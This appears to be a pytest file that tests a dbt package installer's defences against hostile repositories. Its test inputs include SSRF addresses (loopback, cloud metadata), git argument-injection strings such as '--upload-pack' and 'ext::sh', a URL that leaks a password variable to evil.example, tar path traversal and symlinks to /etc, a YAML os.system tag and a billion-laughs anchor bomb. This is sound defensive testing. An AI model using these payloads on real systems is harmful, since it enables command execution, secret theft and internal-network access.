"""What a hostile repository tries with packages, by an address, a path, an archive or a name, fails."""

from __future__ import annotations

import shutil
import tarfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest
from tests.unit.dbt.test_git import repository, run, served
from tests.unit.dbt.test_packages import Server, archive, install, needs_git, project, refused, server, write

from tidemill.dbt import fetching, packages, spec
from tidemill.dbt.fetching import Means
from tidemill.errors import ConfigError
from tidemill.outbound.client import Http
from tidemill.outbound.guard import Guard

__all__ = ["project", "repository", "server"]


@pytest.mark.parametrize(
    "named",
    [
        {"git": "http://127.0.0.1:1/project.git"},
        {"git": "https://localhost/project.git"},
        {"git": "https://[::1]/project.git"},
        {"git": "http://169.254.169.254/latest"},
        {"tarball": "http://127.0.0.1:1/a.tar.gz", "name": "a"},
        {"tarball": "http://[::ffff:10.0.0.1]/a.tar.gz", "name": "a"},
    ],
    ids=str,
)
def test_what_only_this_machine_sees_is_not_asked(named: dict[str, str], project: Path) -> None:
    write(project, named)
    assert refused(project, None, "192.0.2.1").code == "address_private"


def test_nor_is_it_asked_by_a_redirection_or_by_what_the_hub_says(project: Path, server: Server) -> None:
    port = server.url.rpartition(":")[2]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("socket.getaddrinfo", _names({"hub.example": "127.0.0.1"}))
        server.onward["/a.tar.gz"] = "http://10.0.0.7/a.tar.gz"
        write(project, {"tarball": f"http://hub.example:{port}/a.tar.gz", "name": "a"})
        assert refused(project, server, "hub.example").code == "address_private"
    assert server.asked == ["/a.tar.gz"]


def _names(known: Mapping[str, str]) -> Any:
    import socket

    looks = socket.getaddrinfo

    def look_up(host: str, *rest: Any, **more: Any) -> Any:
        return looks(known.get(host, host), *rest, **more)

    return look_up


@pytest.mark.parametrize(
    "named",
    [
        {"git": "https://x-access-token:s3cret@github.com/a/b.git"},
        {"git": "https://s3cret@github.com/a/b.git"},
        {"git": "https://{{ env_var('DBT_ENV_SECRET_TOKEN') }}@github.com/a/b.git"},
        {"git": "https://evil.example/{{ env_var('DBT_PASSWORD') }}.git"},
        {"git": "ssh://git@github.com/a/b.git"},
        {"git": "git@github.com:a/b.git"},
        {"git": "file:///srv/b.git"},
        {"git": "/srv/b.git"},
        {"git": "--upload-pack=touch /tmp/x"},
        {"git": "ext::sh -c touch% /tmp/x"},
        {"git": "https://github.com/a/b.git", "revision": "--upload-pack=x"},
        {"git": "https://github.com/a/b.git", "revision": ["a", "b"]},
        {"tarball": "https://bucket.example/a.tar.gz?X-Amz-Signature=s3cret", "name": "a"},
        {"tarball": "file:///etc/passwd", "name": "a"},
        {"tarball": "https://example.com/a.tar.gz", "name": "../../a"},
        {"tarball": "https://example.com/a.tar.gz"},
        {"package": "../../x", "version": "1.0.0"},
        {"package": "a/b"},
        {"package": "a/b", "git": "https://github.com/a/b.git"},
        {"private": "a/b"},
        "a/b",
        {},
    ],
    ids=str,
)
def test_what_cannot_be_checked_is_refused_before_anything_is_asked(named: Any, project: Path) -> None:
    write(project, named)
    error = refused(project)
    assert isinstance(error, ConfigError)
    assert "s3cret" not in error.message + error.hint


@pytest.mark.parametrize("path", ["..", ".", "../../other", "/etc", "~", "../shop", "../out", "../none", "{{ x }}"])
def test_a_folder_that_leads_out_is_refused(path: str, project: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "dbt_project.yml").write_text("name: other\n")
    (project.parent / "out").symlink_to(other)
    write(project, {"local": path})
    assert isinstance(refused(project), ConfigError)
    assert (other / "dbt_project.yml").is_file()


@needs_git
@pytest.mark.parametrize(
    ("said", "subfolder"),
    [
        ("name: ../../../x", "shop"),
        ("name: x\nmodel-paths: [../../..]", "shop"),
        ("name: x", "../.."),
        ("name: x", "shop/out"),
    ],
)
def test_a_repository_that_leads_out_is_refused(said: str, subfolder: str, project: Path, repository: Path) -> None:
    (repository / "shop" / "dbt_project.yml").write_text(said)
    if subfolder.endswith("out"):
        (repository / "shop" / "out").symlink_to("/etc")
    run(repository, "add", ".")
    run(repository, "commit", "-m", "hostile")
    with served(repository) as url:
        write(project, {"git": url, "subdirectory": subfolder})
        assert isinstance(refused(project), ConfigError)


def link(path: str, to: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    made = tarfile.TarInfo(path)
    made.type, made.linkname = kind, to
    return made


@pytest.mark.parametrize(
    "body",
    [
        archive({"a/dbt_project.yml": "", "../../escaped": "x"}),
        archive({"a/dbt_project.yml": "", "/tmp/escaped-by-tests": "x"}, link("b", "/")),  # noqa: S108
        archive({"a/x": "", "b/y": ""}),
        archive({"file": ""}),
        archive({}),
        b"no archive",
        archive({"a/x": "x" * 100_000})[:-50],
    ],
    ids=["..", "/", "two folders", "a file", "nothing", "no archive", "cut off"],
)
def test_an_archive_that_is_none_or_leads_out_is_refused(body: bytes, tmp_path: Path) -> None:
    into = tmp_path / "deep" / "er" / "into"
    with pytest.raises(ConfigError):
        packages.unpacked(body, into)
    assert all(one.is_relative_to(into) for one in tmp_path.rglob("*") if one.is_file())
    assert not Path("/tmp/escaped-by-tests").exists()  # noqa: S108


def test_links_of_an_archive_are_left_out(tmp_path: Path) -> None:
    body = archive(
        {"a/dbt_project.yml": "name: a\n"}, link("a/etc", "/etc"), link("a/x", "/etc/passwd", tarfile.LNKTYPE)
    )
    found = packages.unpacked(body, tmp_path / "into")
    assert [one.name for one in found.iterdir()] == ["dbt_project.yml"]


def test_an_archive_that_would_fill_the_disk_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packages, "_MOST_UNPACKED", 1_000_000)
    with pytest.raises(ConfigError, match="too large"):
        packages.unpacked(archive({"a/x": "x" * 2_000_000}), tmp_path / "into")
    assert sum(one.stat().st_size for one in tmp_path.rglob("*") if one.is_file()) == 0


@pytest.mark.parametrize(
    "said",
    [
        "packages-install-path: /var/lib",
        "packages-install-path: ../..",
        "modules-path: ../../..",
        "packages-install-path: ~/x",
        "packages-install-path: \"{{ env_var('HOME') }}\"",
        "model-paths: [models, ../../../etc]",
        "seed-paths: /etc",
        "macro_paths: [/srv]",
        "docs-paths: ['~']",
        "target-path: /tmp/x",
        "a: [",
        "- a",
        "!!python/object/apply:os.system ['true']",
        "a: 1\n---\nb: 2",
        "version: 1 #\u2028packages-install-path: /etc",
        "version: 1 #\u0085packages-install-path: /etc",
        "model-paths: a\nmodel-paths: b",
        "model-paths: {a: b}",
        "model-paths: [[/etc]]",
    ],
)
def test_a_project_whose_paths_lead_out_is_refused(said: str, project: Path, tmp_path: Path) -> None:
    (tmp_path / "kept").mkdir()
    (project / "dbt_project.yml").write_text(f"name: shop\n{said}\n" if ": " in said else said)
    assert isinstance(refused(project), ConfigError)
    assert (tmp_path / "kept").is_dir()


_NESTED = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "\n".join(
    f"a{number}: &a{number} [{', '.join([f'*a{number - 1}'] * 9)}]" for number in range(1, 30)
)


def test_what_nests_without_an_end_is_refused_at_once(project: Path) -> None:
    (project / "dbt_project.yml").write_text(f"name: shop\n{_NESTED}\nmodel-paths: *a29\n")
    assert "no path" in refused(project).message
    (project / "dbt_project.yml").write_text("name: shop\n")
    (project / "a").mkdir()
    (project / "a" / "dbt_project.yml").write_text(f"{_NESTED}\nname: *a29\n")
    for named in ("{local: a}", "{git: *a29}", "{package: a/b, version: *a29}", "*a29", "{git: &x [*x]}"):
        (project / "packages.yml").write_text(f"{_NESTED}\npackages: [{named}]\n")
        assert refused(project).code == "dbt_package"
        shutil.rmtree(project / "dbt_packages", ignore_errors=True)
    (project / "packages.yml").write_text("packages: [{package: a/none, version: 1.0.0}]")
    (project / "package-lock.yml").write_text(f"{_NESTED}\npackages: [{{package: *a29, version: *a29}}]\n")
    assert refused(project).code == "server_refused", "nothing listens there"


def test_packages_that_were_committed_are_looked_at(project: Path) -> None:
    package = project / "dbt_packages" / "utils"
    package.mkdir(parents=True)
    write(project, {"git": "http://10.0.0.1/x.git"})
    (package / "dbt_project.yml").write_text("name: utils\n")
    assert install(project) == {"utils"}, "nothing is asked for"
    (package / "dbt_project.yml").write_text("name: utils\nmacro-paths: [../../../../..]\n")
    assert "leads out" in refused(project).message


@needs_git
def test_a_repository_that_an_editor_gives_does_not_reach_the_inner_network(
    repository: Path, server: Server, tmp_path: Path
) -> None:
    port = server.url.rpartition(":")[2]
    write(repository / "shop", {"tarball": f"http://127.0.0.2:{port}/a.tar.gz", "name": "a"})
    run(repository, "add", ".")
    run(repository, "commit", "-m", "hostile")
    http = Http(Guard(["127.0.0.1"]))
    means = Means(http, lambda *_: b"", ("prod-1", "marts"), tmp_path / "known_hosts", "/bin/false")
    with served(repository) as url, pytest.raises(ConfigError) as caught:
        fetching.fetch(spec.make({"name": "shop", "git": url, "subfolder": "shop"}), means)
    http.close()
    assert caught.value.code == "address_private"
    assert server.asked == []
